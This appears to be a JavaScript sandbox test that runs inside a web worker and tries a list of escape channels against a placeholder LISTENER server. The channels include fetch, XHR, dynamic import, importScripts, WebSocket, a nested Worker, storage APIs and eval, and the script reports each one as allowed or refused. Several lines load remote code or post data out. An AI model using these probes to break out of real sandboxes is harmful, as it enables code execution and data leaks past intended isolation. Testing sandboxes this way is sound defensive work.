// What JavaScript in a worker can try. LISTENER is the address of a server that notes whoever asks.
const attempts = {
  fetch: () => fetch(`${LISTENER}fetch`, { mode: "no-cors", method: "POST", body: "x" }),
  xhr: () => {
    const asked = new XMLHttpRequest();
    asked.open("GET", `${LISTENER}xhr`, false);
    asked.send();
  },
  import: () => import(`${LISTENER}import.mjs`),
  importScripts: () => importScripts(`${LISTENER}importScripts.js`),
  socket: () => new WebSocket(LISTENER.replace("http", "ws") + "socket"),
  socketStream: () => new WebSocketStream(LISTENER.replace("http", "ws") + "stream").opened,
  events: () => new EventSource(`${LISTENER}events`),
  transport: () => new WebTransport(LISTENER.replace("http:", "https:")).ready,
  font: () => new FontFace("x", `url(${LISTENER}font.woff2)`).load(),
  image: () => createImageBitmap(`${LISTENER}image.png`),
  worker: () => new Worker(`${LISTENER}worker.js`),
  caches: () => caches.open("cnn-foundations").then((cache) => cache.add(`${LISTENER}cache`)),
  stored: () => caches.open("attack").then((cache) => cache.put("https://box.invalid/x", new Response("x"))),
  indexedDB: () =>
    new Promise((resolve, reject) => Object.assign(indexedDB.open("attack"), { onsuccess: resolve, onerror: reject })),
  files: () => navigator.storage.getDirectory(),
  buckets: () => navigator.storageBuckets.open("attack"),
  eval: () => eval("1 + 1"),
  function: () => new Function("return 1")(),
  timer: () => new Promise((resolve, reject) => {
    self.timerRan = resolve;
    setTimeout("self.timerRan()", 0);
    setTimeout(reject, 300, new Error("it never ran"));
  }),
};

const say = (text) => {
  console.log(text);
  self.postMessage(text);
};

// All begin at once: where Python works on, nothing that waits would have its turn.
delete self.fetch;
delete self.importScripts; // what stood before them is still there
const outcome = async (begun) => {
  const made = await begun;
  if (!(made instanceof EventTarget) || made instanceof Worker) return "allowed";
  return new Promise((resolve) => {
    made.onerror = () => resolve("refused: error");
    setTimeout(resolve, 1000, "allowed");
  });
};
const all = Object.entries(attempts).map(async ([name, attempt]) => {
  const late = new Promise((_, reject) => setTimeout(reject, 2000, new Error("no answer")));
  try {
    say(`attack ${name}: ${await Promise.race([outcome(attempt()), late])}`);
  } catch (error) {
    say(`attack ${name}: refused: ${error?.name}`);
  }
});
Promise.all(all).then(() => say("attack done"));
